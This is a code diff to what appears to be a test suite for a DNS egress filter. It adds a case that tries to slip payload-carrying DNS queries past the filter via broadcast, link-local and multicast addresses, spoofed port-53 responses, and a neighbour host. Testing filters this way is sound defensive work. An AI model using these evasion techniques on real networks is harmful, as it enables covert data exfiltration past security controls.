@@ -18,7 +18,7 @@ from .quic import initial, pieces
 A, NULL, SOA, TXT, OPT, ANY = 1, 10, 6, 16, 41, 255
 PADDING, COOKIE, LOCAL = 12, 10, 65001
 RECURSION = 0x0100
-PUBLIC4 = "8.8.8.8"
+PUBLIC4, NEIGHBOUR4 = "8.8.8.8", "10.77.0.101"
 TUNNEL_QUERIES = 150
 TUNNEL_BYTES = 1_024
 """What may leave in an hour through names of one domain that look like code."""
@@ -270,6 +270,31 @@ def reuse_port(attempt: Attempt) -> str:
     return ", ".join(told[:4])
 
 
+def knock_elsewhere(attempt: Attempt) -> None:
+    """Where a resolver may listen too: broadcast, without an address of its own, from port 53, on link-local addresses, on
+    other devices, and as an answer."""
+    attacker = attempt.attacker
+    said = query(fresh(attempt)) + attempt.payload(100)
+    for source in (attacker.address4, "0.0.0.0"):
+        body = frame.udp(said, src=source, dst="255.255.255.255", sport=40_700, dport=53)
+        packet = frame.ipv4(body, src=source, dst="255.255.255.255", proto=frame.UDP)
+        attacker.send_ethernet(packet, frame.ETH_IPV4, dst=frame.BROADCAST)
+    own = link_local(attacker.mac)
+    for source, target in ((own, link_local(attacker.gateway_mac)), (own, "ff02::1"), (attacker.address6, "ff02::fb")):
+        attacker.send_udp(said, target, 53, src=source)
+    for target in (attempt.target4, attacker.gateway4):
+        attacker.send_udp(said, target, 53, sport=53)
+        attacker.send_udp(query(fresh(attempt), flags=0x8180) + attempt.payload(100), target, 40_701, sport=53)
+    attacker.send_udp(said, NEIGHBOUR4, 53)
+    time.sleep(0.2)
+
+
+def link_local(mac: str) -> str:
+    """The address that a kernel makes of a hardware address (RFC 4291, appendix A)."""
+    raw = frame.hardware(mac)
+    return socket.inet_ntop(socket.AF_INET6, b"\xfe\x80" + bytes(6) + bytes([raw[0] ^ 2]) + raw[1:3] + b"\xff\xfe" + raw[3:])
+
+
 def fragment(attempt: Attempt) -> str:
     """A query whose letter comes in a fragment of its own."""
     source, target = attempt.attacker.address4, attempt.target4
@@ -311,6 +336,7 @@ CASES = (
     Case(id="quic", text="DNS over QUIC under the allowed name, on three ports", play=ask_over_quic),
     Case(id="other-ports", text="DNS and mDNS to the internet on seven ports", play=ask_on_other_ports),
     Case(id="other-resolvers", text="Resolvers of its own choice", play=ask_others),
+    Case(id="other-doors", text="Broadcast, link-local, from port 53, as an answer, to a neighbour", play=knock_elsewhere),
     Case(id="reused-port", text="The source port of a refused query again", play=reuse_port),
     Case(id="fragments", text="A letter in the second fragment of a query", play=fragment),
     Case(id="two-addresses", text="An allowed name that also points to the refused one's address", play=point_elsewhere),
